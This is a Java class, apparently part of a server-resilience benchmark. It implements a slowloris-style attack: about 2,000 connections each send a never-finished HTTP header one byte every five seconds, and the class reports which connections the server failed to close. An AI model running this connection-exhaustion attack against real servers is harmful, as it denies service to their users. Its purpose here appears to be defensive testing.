package io.termatlas.bench.attack;

import java.io.IOException;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;

/// Heads that never end, a byte of them every five seconds.
final class StalledHeads implements Attack {
    private static final int CONNECTIONS = 2_000;
    private static final int DRIP_MILLIS = 5_000;
    private static final Duration LONGEST = Duration.ofSeconds(45);

    @Override
    public String name() {
        return "stalled-heads";
    }

    @Override
    public String what() {
        return "2,000 half heads, a byte more every 5 s";
    }

    @Override
    public Findings strike(Target target) throws InterruptedException {
        int size = target.scaled(CONNECTIONS);
        AtomicInteger open = new AtomicInteger();
        long end = System.nanoTime() + LONGEST.toNanos();
        int failed = Crowd.act(size, number -> {
            if (isOpenAtTheEnd(target, end)) {
                open.incrementAndGet();
            }
        });
        String seen = size + " connections, " + failed + " reset, " + open + " still open after " + LONGEST.toSeconds()
                + " s";
        return new Findings(seen, open.get() == 0 ? List.of() : List.of(open + " half heads were never closed"));
    }

    private static boolean isOpenAtTheEnd(Target target, long end) throws IOException {
        try (Socket socket = target.connect()) {
            socket.setSoTimeout(DRIP_MILLIS);
            socket.getOutputStream().write(Target.ascii("GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: "));
            while (System.nanoTime() < end) {
                try {
                    if (socket.getInputStream().read() < 0) {
                        return false;
                    }
                } catch (SocketTimeoutException e) {
                    socket.getOutputStream().write('a');
                }
            }
            return true;
        }
    }
}
